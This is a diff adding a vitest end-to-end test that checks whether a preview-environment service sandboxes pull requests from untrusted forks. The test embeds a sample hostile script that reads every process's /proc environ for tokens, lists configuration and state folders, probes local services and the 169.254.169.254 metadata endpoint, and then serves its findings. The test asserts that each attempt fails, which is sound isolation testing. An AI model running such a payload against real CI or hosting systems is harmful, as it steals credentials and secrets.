@@ -1,0 +1,110 @@
+import { once } from 'node:events';
+import { writeFile } from 'node:fs/promises';
+import { createServer } from 'node:net';
+import { join } from 'node:path';
+import { describe, expect, it, onTestFinished } from 'vitest';
+import { GithubEmulator } from '../parts/github/github-emulator.ts';
+import { EphdHarness } from './ephd-harness.ts';
+import { labelledApp, textsOf } from './labelled-app.ts';
+
+/** What a pull request of somebody unknown may contain: it tries everything that it can think of, and publishes what it finds. */
+const attack = `
+import { createServer } from 'node:http';
+import { connect } from 'node:net';
+import { readdirSync, readFileSync } from 'node:fs';
+const found = {};
+const attempt = async (name, work) => {
+  try { found[name] = String(await work()); } catch (error) { found[name] = 'failed ' + (error.code ?? error.message); }
+};
+const reach = (...target) => new Promise((resolve, reject) => {
+  const socket = connect(...target);
+  socket.setTimeout(2000, () => reject(new Error('timeout')));
+  socket.once('connect', () => socket.once('close', () => resolve('closed')).once('data', (data) => resolve(data)));
+  socket.once('error', reject);
+});
+const targets = JSON.parse(readFileSync('targets.json', 'utf8'));
+await attempt('environ', () => readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))
+  .map((pid) => { try { return readFileSync('/proc/' + pid + '/environ', 'utf8'); } catch { return ''; } }).join(' '));
+await attempt('configuration', () => readFileSync(targets.configuration, 'utf8'));
+await attempt('data', () => readdirSync(targets.data).join());
+await attempt('token', () => readdirSync(targets.state).join());
+await attempt('database', () => reach(targets.database, '127.0.0.1'));
+await attempt('api', () => reach(targets.api, '127.0.0.1'));
+await attempt('metadata', () => reach(80, '169.254.169.254'));
+await attempt('socket', () => reach(String.fromCharCode(0) + targets.socket));
+createServer((request, response) => response.end(JSON.stringify(found))).listen(Number(process.env.PORT), '127.0.0.1');
+`;
+
+const listen = async (address: { readonly host: string; readonly port: number } | string): Promise<number> => {
+  const server = createServer((socket) => socket.on('error', () => undefined).end('a secret of the machine'));
+  onTestFinished(() => void server.close());
+  await once(server.listen(address), 'listening');
+  const bound = server.address();
+  return typeof bound === 'object' && bound !== null ? bound.port : 0;
+};
+
+describe('a labelled pull request from a fork', () => {
+  it('finds nothing, and without a sandbox does not run', { timeout: 120_000 }, async () => {
+    await using github = await GithubEmulator.start();
+    await using harness = await EphdHarness.create();
+    for (const name of ['alice', 'mallory']) github.createUser(name);
+    github.createOrganization('acme');
+    github.setMember('acme', 'alice', 'admin');
+    const files = textsOf(labelledApp());
+    const repository = github.createRepository('acme/shop', { files, by: 'alice' });
+    const config = join(harness.folder, 'ephd.yaml');
+    const socket = `eph-e2e-${process.pid}`;
+    await listen(`\0${socket}`);
+    const targets = {
+      configuration: config,
+      data: harness.dataFolder,
+      state: join(harness.folder, 'state'),
+      database: await listen({ host: '127.0.0.1', port: 0 }),
+      api: harness.apiPort,
+      socket,
+    };
+    const fork = repository.fork('mallory');
+    fork.push('patch', { 'answer.mjs': attack, 'targets.json': JSON.stringify(targets) }, { by: 'mallory' });
+    const pull = repository.openPullRequest({ head: 'mallory:patch', by: 'mallory' });
+    pull.label('preview', { by: 'alice' });
+    await writeFile(
+      config,
+      JSON.stringify({
+        forges: { work: { type: 'github', url: github.url, token: { from: 'TOKEN' } } },
+        projects: [{ name: 'shop', trusted: true, forks: 'base', forge: 'work', location: 'acme/shop' }],
+      }),
+    );
+    const token = github.createToken({ by: 'alice' });
+    await harness.start({ projects: [], args: ['--config', config], env: { TOKEN: token } });
+    const [{ phase, summary, name } = { phase: '', summary: '', name: '' }] = await settled(harness);
+    if ((await harness.isolation()) === 'trusted') {
+      expect({ phase, summary }).toEqual({
+        phase: 'Failed',
+        summary: expect.stringContaining('provider process has no sandbox, so it runs no pull requests from forks'),
+      });
+      expect(harness.services()).toEqual([]);
+      return;
+    }
+    expect({ phase, summary }).toMatchObject({ phase: 'Ready' });
+    const found = JSON.parse((await harness.visit(name)).body) as Record<string, string>;
+    expect(found['environ']).not.toContain(token);
+    expect({ ...found, environ: '' }).toEqual({
+      environ: '',
+      configuration: 'failed ENOENT',
+      data: 'failed ENOENT',
+      token: 'failed ENOENT',
+      database: 'failed ECONNREFUSED',
+      api: 'failed ECONNREFUSED',
+      metadata: 'failed EHOSTUNREACH',
+      socket: 'failed ECONNREFUSED',
+    });
+  });
+});
+
+const settled = async (harness: EphdHarness) => {
+  for (;;) {
+    const environments = await harness.environments();
+    if (['Ready', 'Failed'].includes(environments[0]?.phase ?? '')) return environments;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+};
